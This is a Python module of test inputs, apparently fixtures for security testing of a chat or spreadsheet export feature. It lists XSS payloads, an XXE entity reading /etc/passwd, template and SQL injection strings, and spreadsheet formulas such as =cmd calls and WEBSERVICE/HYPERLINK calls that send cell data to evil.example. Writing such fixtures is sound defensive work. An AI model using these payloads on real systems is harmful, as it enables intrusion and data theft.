"""What somebody writes who wants more than to be heard."""

MARKUP = (
    "<r>a & b</r>",
    '<r><t>x</t></r></is></c><c r="C2"><f>HYPERLINK("http://evil.example/"&A2,"open")</f></c><c><is><r><t>y</t></r>',
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "<svg/onload=window.pwned=1>",
    "\"><iframe src=javascript:window.pwned=1></iframe>",
    "' onmouseover='window.pwned=1' autofocus onfocus='window.pwned=1",
    "<a href=\"javascript:window.pwned=1\">tap</a>",
    "<b>bold</b><tg-spoiler>x</tg-spoiler><a href=\"tg://user?id=1\">王师傅</a>",
    "</b></i></a><pre>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.pwned=1&#62; &amp;amp;",
    "<!--", "]]>", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
    "{{constructor.constructor('window.pwned=1')()}}", "${window.pwned=1}", "<style>*{display:none}</style>",
    "<base href=//evil.example>", "<form action=//evil.example><input name=q>",
    "<math><mi//xlink:href=\"data:x,<script>\">",
    "*bold* _it_ `code` [x](tg://user?id=1) ~s~ ||spoiler||", "\\u003cscript\\u003e", "%3Cscript%3E",
)  # fmt: skip
FORMULAS = (
    "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", " =1+1",
    "=HYPERLINK(\"http://evil.example\")",
    "＝1+1", "＋1", "－1", "＠SUM(1)", "=WEBSERVICE(\"http://evil.example/?\"&A1)", "\u200b=1+1",
    "\"=1+1", ";=1+1", "\ufeff=1+1",
)  # fmt: skip
INVISIBLE = (
    "\u202e反过来", "a\u200bb", "\x1b[2J\x1b[31m", "\x9b2J", "a\x00b", "\ud800", "e" + "\u0301" * 5000, "\u2066x\u2069",
    "\u0085", "a\u2028b\u2029c", "\x08\x08\x08", "\ufffe\uffff", "\U000e0041\U000e0042", "\x7f",
)  # fmt: skip
ORIGINS = (
    "null", "https://evil.example", "http://{host}.evil.example", "http://evil.example/{host}",
    "http://{host}@evil.example",
    "http://evil.example#{host}", "http://evil.example?{host}", "file://", "chrome-extension://abcdef", "http://127.0.0.1",
    "http://127.0.0.1:1", "//{host}", "{host}", "ftp://{host}", "http://[::1",
    "http://localhost.{host}", "http:// {host}",
)  # fmt: skip
NUMBERS = (
    "0", "-1", "1e9", "１００１", "٠١", "999999999999999", "9" * 40, "1001 OR 1=1", "1001;DROP TABLE case_",
    "0x3e9", "1_001",
    "", " ", "\x00", "1001\x00", "None", "../1001", "%31%30%30%31", "1001.0", "+1001", "①", "NaN", "inf", "true",
)  # fmt: skip
